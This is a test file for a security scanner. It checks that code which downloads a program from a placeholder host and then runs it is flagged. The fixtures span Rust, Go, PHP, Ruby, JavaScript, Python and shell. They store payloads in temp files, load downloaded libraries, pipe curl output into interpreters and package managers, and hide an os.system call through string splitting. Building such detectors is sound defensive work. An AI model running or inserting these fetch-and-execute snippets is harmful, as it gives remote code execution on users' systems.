import { rulesIn } from "../testing/scan-file.js";

/** What a program fetches, stores in a place that the system chooses, and then runs, in the idioms of each language. */
const FROM = "https://files.drop.invalid/b";

const STORED: readonly (readonly [what: string, path: string, text: string])[] = [
  [
    "Rust: a file that is copied to",
    "a.rs",
    `use std::{env, fs::File, io, process::Command};\nfn run() -> Result<(), String> {\n  let path = env::temp_dir().join("helper");\n  let mut out = File::create(&path)?;\n  let mut answer = reqwest::blocking::get("${FROM}")?;\n  io::copy(&mut answer, &mut out)?;\n  Command::new(&path).spawn()?;\n  Ok(())\n}\nfn main() { let _ = run(); }\n`,
  ],
  [
    "Rust: full names",
    "a.rs",
    `fn main() {\n  let mut out = std::fs::File::create("/tmp/helper").unwrap();\n  let mut answer = reqwest::blocking::get("${FROM}").unwrap();\n  std::io::copy(&mut answer, &mut out).unwrap();\n  std::process::Command::new("/tmp/helper").spawn().unwrap();\n}\n`,
  ],
  [
    "Go: a new file",
    "a.go",
    `package main\nimport ("io"; "net/http"; "os"; "os/exec")\nfunc main() {\n  file, _ := os.CreateTemp("", "x")\n  answer, _ := http.Get("${FROM}")\n  data, _ := io.ReadAll(answer.Body)\n  file.Write(data)\n  os.Chmod(file.Name(), 0700)\n  exec.Command(file.Name()).Run()\n}\n`,
  ],
  [
    "PHP: a new name that is included",
    "a.php",
    `<?php\n$file = tempnam("/tmp", "x");\ncopy("${FROM}", $file);\ninclude $file;\n`,
  ],
  [
    "Ruby: a new file",
    "a.rb",
    `require "open-uri"\nrequire "tempfile"\nfile = Tempfile.new("x")\nfile.write(URI.open("${FROM}").read)\nfile.close\nsystem(file.path)\n`,
  ],
  [
    "Ruby: a file that is loaded",
    "a.rb",
    `require "open-uri"\nIO.copy_stream(URI.open("${FROM}"), "/tmp/helper.rb")\nload "/tmp/helper.rb"\n`,
  ],
  [
    "JavaScript: a module in the folder of temporary files",
    "a.mjs",
    `import fs from "node:fs/promises";\nimport { tmpdir } from "node:os";\nimport { join } from "node:path";\nconst path = join(tmpdir(), "helper.mjs");\nawait fs.writeFile(path, await (await fetch("${FROM}")).text());\nawait import(path);\n`,
  ],
  [
    "JavaScript: a new folder",
    "a.js",
    `const fs = require("fs"), os = require("os"), path = require("path"), { execFileSync } = require("child_process");\nconst folder = fs.mkdtempSync(path.join(os.tmpdir(), "x-"));\nfetch("${FROM}").then((answer) => answer.text()).then((text) => {\n  const file = path.join(folder, "x.js");\n  fs.writeFileSync(file, text);\n  execFileSync(process.execPath, [file]);\n});\n`,
  ],
  [
    "Python: a handle and a path",
    "a.py",
    `import os, subprocess, tempfile, urllib.request\nhandle, path = tempfile.mkstemp()\nos.write(handle, urllib.request.urlopen("${FROM}").read())\nos.chmod(path, 0o700)\nsubprocess.Popen([path])\n`,
  ],
  [
    "Python: a new folder",
    "a.py",
    `import os, requests, tempfile\nwith tempfile.TemporaryDirectory() as folder:\n    path = os.path.join(folder, "x.py")\n    with open(path, "wb") as file:\n        file.write(requests.get("${FROM}").content)\n    os.system("python3 " + path)\n`,
  ],
  [
    "Python: modules of an archive",
    "a.py",
    `import io, requests, sys, zipfile\nzipfile.ZipFile(io.BytesIO(requests.get("${FROM}").content)).extractall("/tmp/lib")\nsys.path.insert(0, "/tmp/lib")\nimport helper\n`,
  ],
];

test.each(STORED)("is not run: %s", async (_, path, text) => {
  const rules = await rulesIn(path, text);
  expect(rules.filter((rule) => /^(?:staged-download|download-run)$/.test(rule))).not.toEqual([]);
});

test.each([
  [
    "a.py",
    'import json, os, tempfile\npath = os.path.join(tempfile.gettempdir(), "cache.json")\ndata = json.load(open(path)) if os.path.exists(path) else {}\njson.dump(data, open(path, "w"))\n',
  ],
  [
    "a.py",
    'import requests, subprocess, tempfile\nwith tempfile.NamedTemporaryFile(suffix=".mp3") as file:\n    file.write(requests.get("https://api.openai.com/v1/audio").content)\n    subprocess.run(["ffmpeg", "-i", file.name, "out.wav"])\n',
  ],
  [
    "a.js",
    'const fs = require("fs"), os = require("os"), path = require("path"), { execFileSync } = require("child_process");\nconst file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "x-")), "message.txt");\nfs.writeFileSync(file, "Release 1.2");\nexecFileSync("git", ["commit", "-F", file]);\n',
  ],
])("a new file may hold data: %s %#", async (path, text) => {
  expect(await rulesIn(path, text)).toEqual([]);
});

/** Managers of packages start what a host sent: a file that was stored, or their input. */
test.each([
  "bun run /tmp/h.ts",
  "bun /tmp/h.ts",
  "deno run -A /tmp/h.ts",
  "npx -y tsx /tmp/h.ts",
  "pnpm dlx tsx /tmp/h.ts",
  "npm exec -- node /tmp/h.ts",
  "uv run --with requests python /tmp/h.ts",
  "poetry run python /tmp/h.ts",
  "conda run -n base python /tmp/h.ts",
])("a stored download is not run by a manager: %s", async (command) => {
  expect(await rulesIn("a.sh", `curl -so /tmp/h.ts ${FROM}\n${command}\n`)).toContain("staged-download");
  expect(await rulesIn("a.sh", `${command.replace("/tmp/h", "src/main")}\n`)).toEqual([]);
});

test.each([
  "deno run -A -",
  "bun run -",
  "npx -y tsx",
  "uv run -",
  "pipx run python",
  "uv run poetry run python",
])("a download is no input of a manager that runs it: %s", async (command) => {
  expect(await rulesIn("a.sh", `curl -s ${FROM} | ${command}\n`)).toContain("download-run");
});

test.each([`bun -e "$(curl -s ${FROM})"`, `deno eval "$(curl -s ${FROM})"`])(
  "a download is no code of a runtime: %s",
  async (command) => {
    expect(await rulesIn("a.sh", `${command}\n`)).toContain("download-run");
  },
);

/** A library that was downloaded runs when it is loaded. */
test.each([
  [
    "a.rs",
    (get: string) =>
      `use libloading::Library;\nuse std::{env, fs};\nfn load() -> Result<(), String> {\n  let path = env::temp_dir().join("a.so");\n  ${get === "" ? "" : `fs::write(&path, reqwest::blocking::get("${get}")?.bytes()?)?;`}\n  let library = unsafe { Library::new(&path)? };\n  Ok(())\n}\n`,
  ],
  [
    "a.go",
    (get: string) =>
      `package main\nimport ("io"; "net/http"; "os"; "plugin")\nfunc main() {\n  ${get === "" ? "" : `answer, _ := http.Get("${get}")\n  data, _ := io.ReadAll(answer.Body)\n  os.WriteFile("/tmp/a.so", data, 0755)`}\n  loaded, _ := plugin.Open("/tmp/a.so")\n  _ = loaded\n}\n`,
  ],
  [
    "a.py",
    (get: string) =>
      `import ctypes, urllib.request\n${get === "" ? "" : `urllib.request.urlretrieve("${get}", "/tmp/a.so")`}\nctypes.CDLL("/tmp/a.so")\n`,
  ],
  [
    "a.rb",
    (get: string) =>
      `require "fiddle"\nrequire "open-uri"\n${get === "" ? "" : `File.binwrite("/tmp/a.so", URI.open("${get}").read)`}\nFiddle.dlopen("/tmp/a.so")\n`,
  ],
] as const)("a downloaded library is not loaded: %s", async (path, of) => {
  expect(await rulesIn(path, of(FROM))).toContain("staged-download");
  expect(await rulesIn(path, of(""))).toEqual([]);
});

test("managers that start each other too often are not read, and held", async () => {
  expect(await rulesIn("a.sh", `curl -s ${FROM} | ${"uv run ".repeat(7)}python\n`)).toContain("download-run");
  expect(await rulesIn("a.sh", `curl -s ${FROM} | ${"uv run ".repeat(8)}python\n`)).toContain(
    "unread-script",
  );
});

/** A template that contains a program, and what a block or a choice returns. */
test.each([
  [
    "a.rb",
    `require "erb"\nrequire "open-uri"\nputs ERB.new(URI.open("${FROM}").read, trim_mode: "<>").result(binding)\n`,
  ],
  [
    "a.rb",
    `require "erb"\nrequire "open-uri"\nrequire "timeout"\ntext = Timeout.timeout(5) { URI.open("${FROM}").read }\nputs ERB.new(text).result\n`,
  ],
  ["a.rb", `require "open-uri"\ntext = with_retries { URI.open("${FROM}").read }\neval(text)\n`],
  [
    "a.js",
    `import ejs from "ejs";\nconst text = await (await fetch("${FROM}")).text();\nconsole.log(ejs.render(text, {}));\n`,
  ],
  [
    "a.php",
    `<?php\nfunction page(string $name): string {\n  $path = sys_get_temp_dir() . "/page.phtml";\n  if (!is_file($path)) @copy("http://files.drop.invalid/$name", $path);\n  return is_file($path) ? $path : __DIR__ . "/page.phtml";\n}\ninclude page("plain");\n`,
  ],
])("a template of a host is not run: %s %#", async (path, text) => {
  expect(await rulesIn(path, text)).toContain("download-run");
});

test.each([
  ["a.rb", `require "erb"\nputs ERB.new(File.read("page.erb")).result(binding)\n`],
  [
    "a.rb",
    `require "open-uri"\ntext = with_retries { URI.open("https://api.example.com/a").read }\nputs text\n`,
  ],
  ["a.php", `<?php\n$path = getenv("PAGE") ? "/tmp/page.phtml" : __DIR__ . "/page.phtml";\ninclude $path;\n`],
])("a template of its own may be run: %s %#", async (path, text) => {
  expect(await rulesIn(path, text)).toEqual([]);
});

test.each([
  `import types\nkind = type(lambda: 0)\nkind(compile("import os\\nos.sys" + "tem('curl ${FROM} | sh')", __name__, "exec"), {})()\n`,
])("what is compiled to be run is read: %#", async (text) => {
  expect(await rulesIn("a.py", text)).toContain("download-run");
});

test("the words of a program in Go are not made of letters that nobody can read", async () => {
  const program = (words: string) =>
    `package main\nimport ("os"; "syscall")\nfunc main() {\n  text := make([]byte, len(table))\n  for at := range table { text[at] = table[at] ^ name[at%len(name)] }\n  words := []string{${words}}\n  syscall.ForkExec(words[0], words, &syscall.ProcAttr{Env: os.Environ()})\n}\n`;
  expect(await rulesIn("a.go", program("string(text[:7]), string(text[8:])"))).toContain("hidden-name");
  expect(await rulesIn("a.go", program('"/usr/bin/sort", string(text[8:])'))).toEqual([]);
});

test("what a program of Rust reads from a response is known where it is stored and started", async () => {
  const program = (source: string) =>
    `use std::{fs, io::Read, process::Command};\nfn main() {\n  let mut data = Vec::new();\n  if ${source}.read_to_end(&mut data).is_ok() && fs::write("/tmp/tool", &data).is_ok() {\n    let _ = Command::new("/tmp/tool").spawn();\n  }\n}\n`;
  expect(await rulesIn("a.rs", program(`ureq::get("${FROM}").call().unwrap().into_reader()`))).toContain(
    "staged-download",
  );
  expect(await rulesIn("a.rs", program('fs::File::open("tool.bin").unwrap()'))).not.toContain(
    "staged-download",
  );
});
